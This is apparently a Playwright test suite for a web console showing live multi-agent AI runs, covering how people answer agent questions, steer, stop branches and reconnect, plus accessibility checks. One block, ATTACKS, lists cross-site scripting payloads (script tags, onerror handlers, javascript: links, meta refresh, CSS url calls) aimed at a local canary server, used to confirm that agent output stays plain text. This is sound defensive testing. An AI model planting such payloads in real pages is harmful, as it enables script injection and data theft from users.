"""The live view in a real browser: what it shows of the agents, and how a person steps in."""

import re
from collections.abc import AsyncGenerator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import WSCloseCode, web
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Locator, Page, ViewportSize, expect

from agent_core.messages import JsonObject, ToolCall
from agent_core.models import ModelRequest
from agent_core.testing.models import Held, ScriptedModel, ScriptLine, call
from agent_core.testing.tools import FakeToolset
from agent_core.tools import OnProgress, ToolContext
from bot.console.server import listening
from tests.bot.console.live_fake import BEGIN_MS, SESSION, Json, LiveFake, agent
from tests.bot.console.world import console_world
from tests.browser import browser, browser_page, browser_window

__all__ = ["browser", "browser_page", "browser_window", "view"]

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.process("the page runs in Chromium"),
]

PHONE = ViewportSize(width=390, height=844)
BRANCHES = ("one", "two", "three")


@dataclass(slots=True, kw_only=True)
class View:
    """One person's live view, and the server behind it."""

    fake: LiveFake
    page: Page
    faults: list[str]
    """What went wrong in the page."""

    @property
    def detail(self) -> Locator:
        return self.page.get_by_role("main")

    def row(self, agent_id: str) -> Locator:
        return self.page.locator(f"[role=treeitem][data-id='{agent_id}'] > .row")

    def item(self, agent_id: str) -> Locator:
        return self.page.locator(f"[role=treeitem][data-id='{agent_id}']")

    def button(self, name: str) -> Locator:
        return self.detail.get_by_role("button", name=name, exact=True)

    async def open(self) -> None:
        await self.page.goto(f"{self.fake.url}/s/{SESSION}")
        await expect(self.page.get_by_text("Live", exact=True)).to_be_visible()


@pytest_asyncio.fixture(loop_scope="module")
async def view(browser_page: Page) -> AsyncGenerator[View]:
    faults: list[str] = []
    browser_page.on("pageerror", lambda error: faults.append(str(error)))
    browser_page.on("console", lambda told: faults.append(told.text) if _is_fault(told) else None)
    async with LiveFake().serving() as fake:
        yield View(fake=fake, page=browser_page, faults=faults)
        await browser_page.goto("about:blank")
    assert faults == []


def _is_fault(told: Any) -> bool:
    """What a report's frame was kept from is none; a connection that is cut is none."""
    place = f"{told.text} {told.location['url']}"
    return told.type == "error" and "WebSocket" not in place and "/artifacts/" not in place


async def tell_tree(view: View) -> None:
    """A task at work with three branches below it."""
    await view.fake.tell(
        agent("root", task="Compare one, two and three", at=0),
        *(agent(name, "root", task=f"About {name}", at=1) for name in BRANCHES),
    )


@pytest.mark.proves("live.page.tree")
async def test_branches_are_shown_as_they_work_and_the_final_answer_is_marked(view: View) -> None:
    await view.open()
    await expect(view.page.get_by_text("Nothing has been asked here yet")).to_be_visible()
    await tell_tree(view)
    tree = view.page.get_by_role("tree", name="Agents")
    await expect(tree.get_by_role("treeitem")).to_have_count(4)
    await expect(view.item("root").get_by_role("group").get_by_role("treeitem")).to_have_count(3)
    await view.fake.tell({"type": "text-delta", "agentId": "two", "delta": "So far **go"})
    await view.fake.tell({"type": "text-delta", "agentId": "two", "delta": "od**"})
    await expect(view.row("two")).to_contain_text("So far good")
    await view.row("two").click()
    await expect(view.detail.locator("strong", has_text="good")).to_be_visible()
    call: Json = {"id": "1", "words": "Searching the web", "arguments": "{}", "display": "8 hits"}
    tokens = {"total": 12_400}
    await view.fake.tell(
        agent("two", "root", at=1, tokens=tokens, steps=2, tools=[{**call, "state": "running"}])
    )
    await expect(view.row("two")).to_contain_text("Searching the web")
    await expect(view.detail.get_by_role("img", name="Running")).to_be_visible()
    done = {**call, "state": "done", "durationMs": 1500}
    told = {"tokens": tokens, "steps": 2, "tools": [done], "finishedAt": BEGIN_MS + 61_000}
    await view.fake.tell(
        agent("two", "root", status="completed", at=1000, result="| A |\n|---|\n| 7 |", **told),
        agent("three", "root", status="failed", result="It broke."),
        agent("root", status="completed", isFinalAnswer=True, result="All *compared*."),
    )
    await expect(view.detail.locator(".tool-line")).to_have_text("Searching the web8 hits1.5 s")
    await expect(view.detail.locator(".head-facts")).to_contain_text("1 min 00 s · since")
    details = view.detail.locator("details", has_text="Tokens")
    await expect(details).to_contain_text("Kind: main · Model calls: 2 · Tokens: 12.4K")
    await expect(view.detail.get_by_role("cell", name="7")).to_be_visible()
    await expect(view.row("two")).to_contain_text("Completed")
    await expect(view.row("three")).to_contain_text("Failed")
    await expect(view.row("root").get_by_text("Final answer")).to_be_visible()


@pytest.mark.proves("live.page.question")
async def test_a_question_is_answered_in_place_by_an_option_or_in_own_words(view: View) -> None:
    await tell_tree(view)
    wait: Json = {"kind": "question", "prompt": "Which region?", "options": ["North", "South"]}
    await view.fake.tell(agent("one", "root", status="waiting", wait=wait))
    await view.open()
    await expect(view.page).to_have_title("A question waits for you")
    await view.page.get_by_role("button", name="Answer").click()
    asked = view.detail.get_by_role("group", name="Which region?")
    await asked.get_by_role("button", name="South").click()
    await view.fake.heard(type="user-response", agentId="one", response="South")
    await expect(asked).to_contain_text("Your answer: South")
    await asked.get_by_label("Answer in your own words").fill("Both")
    await view.page.keyboard.press("Enter")
    await view.fake.heard(type="user-response", response="Both")
    await view.fake.tell(agent("one", "root"))
    await expect(asked).to_have_count(0)
    await view.fake.tell(
        {"type": "user-query", "agentId": "two", "prompt": "Really?", "options": None}
    )
    await expect(view.page.get_by_text("Really?").first).to_be_visible()


@pytest.mark.proves("live.page.one_branch")
async def test_each_intervention_is_for_one_branch(view: View) -> None:
    await tell_tree(view)
    await view.open()
    await view.row("two").click()
    await view.detail.get_by_label("Comment for this agent").fill("Only since 2023")
    await view.page.keyboard.press("Enter")
    await view.fake.heard(type="user-intervention", agentId="two", userComment="Only since 2023")
    await view.button("Edit the task").click()
    task = view.page.get_by_label("The task in new words")
    await expect(task).to_have_value("About two")
    lines = await task.evaluate(
        "area => area.clientHeight / parseFloat(getComputedStyle(area).lineHeight)"
    )
    assert 5 <= lines < 6
    await task.fill("About four")
    await view.page.get_by_role("button", name="Save").click()
    await view.fake.heard(agentId="two", userContent="About four")
    for name, status in (("Mark as done", "completed"), ("Stop", "stopped")):
        await view.button(name).click()
        await view.page.get_by_role("alertdialog").get_by_role("button", name=name).click()
        await view.fake.heard(agentId="two", status=status)
    told = {"kind": "stop", "text": "", "byName": "Ann", "taken": False}
    await view.fake.tell(agent("two", "root", status="stopped", interventions=[told]))
    await expect(view.detail).to_contain_text("Ann stopped it")
    await view.button("Run again").click()
    await view.fake.heard(agentId="two", status="running")
    assert {said.get("agentId", "two") for said in view.fake.said} == {"two"}


async def test_what_is_refused_is_said_and_the_words_are_kept(view: View) -> None:
    await tell_tree(view)
    view.fake.refusal = "Guests may only look."
    await view.open()
    await view.page.get_by_label("Ask for something new").fill("Another task")
    await view.page.keyboard.press("Enter")
    await expect(view.page.get_by_role("alert")).to_contain_text("Guests may only look.")
    await expect(view.page.get_by_label("Ask for something new")).to_have_value("Another task")
    view.fake.may_intervene = False
    await view.open()
    await expect(view.row("root")).to_be_visible()
    await expect(view.page.get_by_role("textbox")).to_have_count(0)
    await expect(view.button("Stop")).to_have_count(0)


@pytest.mark.proves("live.page.resume")
async def test_a_lost_connection_is_shown_resumed_and_nothing_is_missed(view: View) -> None:
    await tell_tree(view)
    await view.open()
    await view.row("three").click()
    await view.detail.get_by_label("Comment for this agent").fill("Not sent yet")
    view.fake.is_down = True
    await view.fake.cut()
    await expect(view.page.get_by_text("Connection lost. Reconnecting…")).to_be_visible()
    await expect(view.button("Stop")).to_be_disabled()
    last = view.fake.event
    view.fake.tree["three"] = agent("three", "root", live="While you were away")
    view.fake.is_down = False
    await view.fake.heard(type="resume", after=last)
    await expect(view.detail).to_contain_text("While you were away")
    await expect(view.detail.get_by_label("Comment for this agent")).to_have_value("Not sent yet")
    await view.page.reload()
    await expect(view.item("three")).to_have_attribute("aria-selected", "true")
    await expect(view.detail).to_contain_text("While you were away")


@pytest.mark.proves("live.page.refused")
async def test_who_may_not_see_it_any_more_is_told_and_left_with_nothing_of_it(view: View) -> None:
    await tell_tree(view)
    await view.open()
    await view.row("root").click()
    await view.button("Edit the task").click()
    await view.fake.cut(WSCloseCode.POLICY_VIOLATION)
    await expect(view.page.get_by_text("You can no longer see this.")).to_be_visible()
    await expect(view.page.get_by_text("Compare one, two and three")).to_have_count(0)
    await expect(view.page.get_by_role("textbox")).to_have_count(0)


@pytest.mark.proves("live.page.keys")
async def test_the_tree_is_moved_through_by_keys_and_keeps_what_was_folded(view: View) -> None:
    await tell_tree(view)
    await view.open()
    await view.row("root").click()
    for key, there in (("ArrowRight", "one"), ("End", "three"), ("ArrowUp", "two")):
        await view.page.keyboard.press(key)
        await expect(view.item(there)).to_be_focused()
    await expect(view.item("two")).to_have_attribute("aria-selected", "true")
    await view.page.keyboard.press("Enter")
    await expect(view.detail.get_by_role("heading", name="About two")).to_be_focused()
    await view.page.keyboard.press("Escape")
    await expect(view.item("two")).to_be_focused()
    for _ in range(2):
        await view.page.keyboard.press("ArrowLeft")
    await expect(view.item("root")).to_have_attribute("aria-expanded", "false")
    await view.fake.tell(agent("root", task="Compare one, two and three", at=0, steps=9))
    await expect(view.detail).to_contain_text("Model calls: 9")
    await expect(view.row("one")).to_be_hidden()
    await view.page.keyboard.press("ArrowDown")
    await expect(view.item("root")).to_be_focused()


@pytest.mark.proves("live.page.frame")
async def test_a_report_opens_in_a_frame_in_which_nothing_runs(view: View) -> None:
    script = "<script>document.title='ran'</script>"
    view.fake.files = {"work_products/r.html": ("text/html", f"<h1>Words</h1>{script}")}
    file = {"path": "work_products/r.html", "title": "The report", "mimetype": "text/html"}
    await view.fake.tell(
        agent("root"), agent("one", "root", artifacts=[{**file, "sizeBytes": 4100}])
    )
    await view.open()
    card = view.detail.get_by_role("button", name=re.compile(r"The report.*Page · 4 kB"))
    await card.click()
    dialog = view.page.get_by_role("dialog", name="The report")
    await expect(dialog.locator("iframe")).to_have_attribute("sandbox", "")
    frame = dialog.frame_locator("iframe")
    await expect(frame.get_by_role("heading", name="Words")).to_be_visible()
    assert await frame.locator("html").evaluate("document.title") == ""
    await view.page.keyboard.press("Escape")
    await expect(dialog).to_have_count(0)
    await expect(card).to_be_focused()


@pytest_asyncio.fixture(loop_scope="module")
async def canary() -> AsyncGenerator[tuple[str, list[str]]]:
    """A server that nothing may reach: its address, and who came nevertheless."""
    hits: list[str] = []

    async def take(request: web.Request) -> web.Response:
        hits.append(request.path_qs)
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", take)
    async with listening(app, "127.0.0.1", 0) as port:
        yield f"//127.0.0.1:{port}", hits


ATTACKS = (
    "<script>fetch('{evil}/e1')</script>",
    "<img src=x onerror=\"fetch('{evil}/e2')\"><svg onload=\"fetch('{evil}/e2')\">",
    '[a](javascript:fetch("{evil}/e3")) <a href=" java&#9;script:fetch(1)">b</a> <javascript:x>',
    "![a](http:{evil}/e4) <img src=http:{evil}/e4>",
    "</script><script>fetch('{evil}/e5')</script>",
    '<base href="{evil}/"><meta http-equiv=refresh content="0;url=http:{evil}/e6">'
    '<form action="{evil}/e6"><button>go</button></form><iframe src="http:{evil}/e6"></iframe>',
    "<style>*{{background:url({evil}/e7)}}</style><p style='background:url({evil}/e7)'>",
)
"""E1 to E7 of RELIABILITY."""


@pytest.mark.proves("live.page.foreign")
async def test_whatever_agents_read_or_say_stays_text(
    view: View, canary: tuple[str, list[str]]
) -> None:
    at, hits = canary
    evil = "\n\n".join(attack.format(evil=at) for attack in ATTACKS)
    file = {"path": "work_products/r.html", "title": evil, "mimetype": "text/html", "sizeBytes": 1}
    view.fake.files = {"work_products/r.html": ("text/html", evil)}
    call = {"id": "1", "name": evil, "state": "done", "display": evil, "arguments": evil}
    told = {"kind": "comment", "text": evil, "byName": evil, "taken": True}
    wait = {"kind": "question", "prompt": evil, "options": [evil]}
    said = [{"role": "assistant", "content": evil}, {"role": "user", "content": evil, "name": evil}]
    everything: Json = {"tools": [call], "interventions": [told], "artifacts": [file]}
    everything |= {"task": evil, "agent": evil, "isTainted": False}
    await view.fake.tell(
        agent("root", status="completed", result=evil, messages=said, **everything),
        agent("one", "root", status="waiting", wait=wait, live=evil, **everything),
    )
    await view.open()
    for name in ("root", "one"):
        await view.row(name).click()
        await view.fake.tell({"type": "text-delta", "agentId": name, "delta": evil})
        await expect(view.detail.locator(".entry").last).to_contain_text("<base href=")
    assert view.faults == []
    await view.detail.locator(".file-card").click()
    frame = view.page.frame_locator("dialog iframe")
    await expect(frame.get_by_role("button", name="go")).to_be_visible()
    await view.page.keyboard.press("Escape")
    foreign = "script, img, style, base, meta, iframe, [onload], [onerror], [style*=background]"
    assert await view.page.locator("#app").locator(f":is({foreign})").count() == 0
    links = await view.page.locator("a[href]").evaluate_all("all => all.map((a) => a.protocol)")
    assert set(links) <= {"http:"}
    assert hits == []
    view.faults.clear()  # what the frame was kept from


@pytest.mark.proves("live.page.links")
async def test_links_are_live_once_it_is_known_that_nothing_foreign_asked_for_them(
    view: View,
) -> None:
    text = "[Known](https://a.test/x/) and [new](https://b.test/?d=secret)"
    links = view.detail.get_by_role("link")
    for under_way in (f"{text}, [so far", f"{text}, [so far](https://c.te", text):
        await view.fake.tell(agent("root", live=under_way))
        await view.open()
        tail = ", so far" if under_way != text else ""
        await expect(view.detail.locator(".is-live .text")).to_have_text(f"Known and new{tail}")
        await expect(links).to_have_count(0)
    ended: Json = {"status": "completed", "result": text}
    known = ["https://a.test/x#top"]
    await view.fake.tell(agent("root", **ended, isTainted=True, sources=known))
    await expect(links).to_have_text(["Known (a.test)"])
    await view.fake.tell(agent("root", **ended, isTainted=False))
    await expect(links).to_have_text(["Known (a.test)", "new (b.test)"])
    await expect(links.first).to_have_attribute("rel", "noopener noreferrer")


COUNT_TOUCHED = """() => {
    window.touched = new Set();
    const elementOf = (node) => (node.closest ? node : node.parentElement);
    const note = (element) => {
        if (element.closest(".row-facts")) return;  // a clock goes on in each row
        window.touched.add(element.closest("[role=treeitem]")?.dataset.id);
    };
    new MutationObserver((records) => records.forEach(({ target }) => note(elementOf(target))))
        .observe(document.querySelector(".tree"), { childList: true, subtree: true });
}"""


@pytest.mark.proves("live.page.smooth")
async def test_what_one_of_two_hundred_agents_says_is_drawn_in_its_row_alone(view: View) -> None:
    names = [f"a{number}" for number in range(200)]
    parents = ["root", *names]
    await view.fake.tell(
        agent("root"), *(agent(name, parents[at // 3], at=at) for at, name in enumerate(names))
    )
    await view.open()
    await expect(view.page.get_by_role("treeitem")).to_have_count(201)
    await view.page.evaluate(COUNT_TOUCHED)
    for _ in range(50):
        await view.fake.tell({"type": "text-delta", "agentId": "a150", "delta": "word "})
    await expect(view.row("a150")).to_contain_text("word " * 39 + "word")
    assert await view.page.evaluate("[...window.touched]") == ["a150"]


@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_axe_finds_nothing_serious_beside_each_other_and_on_a_phone(
    view: View, theme: str
) -> None:
    await tell_tree(view)
    wait: Json = {"kind": "question", "prompt": "Which region?", "options": ["North"]}
    await view.fake.tell(
        agent("one", "root", status="waiting", wait=wait),
        agent("two", "root", status="failed", result="It [broke](https://a.test) `x`."),
        agent("three", "root", status="stopped", tools=[{"id": "1", "name": "x", "state": "done"}]),
    )
    await view.page.emulate_media(
        color_scheme="dark" if theme == "dark" else "light", reduced_motion="reduce"
    )
    await view.open()
    for name in ("root", *BRANCHES):
        await view.row(name).click()
        assert await violations(view.page) == []
    await view.page.set_viewport_size(PHONE)
    await expect(view.detail).to_be_visible()
    assert await violations(view.page) == []
    await view.detail.get_by_role("button", name="Back to the agents").click()
    await expect(view.detail).to_be_hidden()
    assert await violations(view.page) == []
    assert await view.page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]


async def violations(page: Page) -> list[str]:
    axe: Any = Axe()  # its annotations are partial
    found: list[Json] = (await axe.run(page)).response["violations"]
    return [
        f"{rule['id']}: {node['target']} {node['failureSummary']}"
        for rule in found
        if rule["impact"] in ("serious", "critical")
        for node in rule["nodes"]
    ]


LOOK = "mcp__local_toolkit__search_corpus"
ASK = call("ask_user", {"question": "Since when?", "options": ["2020", "2023"]}, id="ask")


def task(name: str) -> ToolCall:
    """The call that has a branch work."""
    words = {"description": f"About {name}", "prompt": f"Word for word:\nfind out about {name}"}
    return call("Task", {**words, "subagent_type": "explorer"}, id=name)


def by_branch(**scripts: Sequence[ScriptLine]) -> ScriptedModel:
    """A model that goes on with the script of the branch that asks, or with that of the root."""
    lines = {name: iter(script) for name, script in scripts.items()}

    def pick(request: ModelRequest) -> ScriptLine:
        opening = request.messages[0].text
        name = next((name for name in lines if opening.endswith(f" {name}")), "root")
        if name == "one" and "Only Poland" in str(request.messages):
            return "About one, in Poland only."
        return next(lines[name])

    return ScriptedModel([pick] * 20)


async def look(_arguments: JsonObject, _context: ToolContext, _progress: OnProgress) -> str:
    return f"Found: {ATTACKS[0]}"


@pytest.mark.proves("live.page.whole")
async def test_a_person_watches_answers_steers_stops_and_misses_nothing(
    browser_page: Page, canary: tuple[str, list[str]], tmp_path: Path
) -> None:
    at, hits = canary
    evil = "\n\n".join(attack.format(evil=at) for attack in ATTACKS)
    one, two, three = Held(then=call(LOOK, id="x")), Held(then="Never said."), Held(then=evil)
    model = by_branch(
        root=[ASK, [task("one"), task("two"), task("three")], f"All **compared**.\n\n{evil}"],
        one=[one],
        two=[two],
        three=[three],
    )
    async with console_world(tmp_path, model, tools=FakeToolset({LOOK: look})) as world:
        await browser_page.goto(world.link())
        await expect(browser_page.get_by_text("Live", exact=True)).to_be_visible()
        detail = browser_page.get_by_role("main")
        tree = browser_page.get_by_role("tree")

        def branch(name: str, status: str) -> str:
            return f"About {name}, {status}"

        await browser_page.get_by_label("Ask for something new").fill("Compare them all")
        await browser_page.keyboard.press("Enter")
        await detail.get_by_role("button", name="2023").click()
        for name in ("one", "two", "three"):
            await expect(tree.get_by_label(branch(name, "Running"))).to_be_visible()
        await tree.get_by_text("About one", exact=True).click()
        await detail.get_by_label("Comment for this agent").fill("Only Poland")
        await browser_page.keyboard.press("Enter")
        await expect(detail).to_contain_text("Ann Arbor commented")
        one.release.set()
        await expect(detail).to_contain_text("About one, in Poland only.")
        await expect(tree.get_by_label(branch("one", "Completed"))).to_be_visible()
        await tree.get_by_text("About two", exact=True).click()
        await detail.get_by_role("button", name="Stop").click()
        await browser_page.get_by_role("alertdialog").get_by_role("button", name="Stop").click()
        await expect(tree.get_by_label(branch("two", "Stopped"))).to_be_visible()
        await browser_page.reload()
        await expect(tree.get_by_role("treeitem", name="About")).to_have_count(3)
        await tree.get_by_text("About one", exact=True).click()
        await expect(detail).to_contain_text("Word for word: find out about one")
        await expect(detail).to_contain_text("Ann Arbor commentedtaken inOnly Poland")
        await expect(detail.locator(".tool")).to_contain_text("Searching the sources")
        three.release.set()
        await expect(tree.get_by_role("treeitem", name="Final answer")).to_be_visible()
        await tree.get_by_text("Compare them all", exact=True).click()
        await expect(detail.locator("strong", has_text="compared")).to_be_visible()
        await expect(detail).to_contain_text("<base href=")
        await tree.get_by_text("About three", exact=True).click()
        await expect(detail).to_contain_text("<base href=")
        await browser_page.goto("about:blank")
    assert hits == []
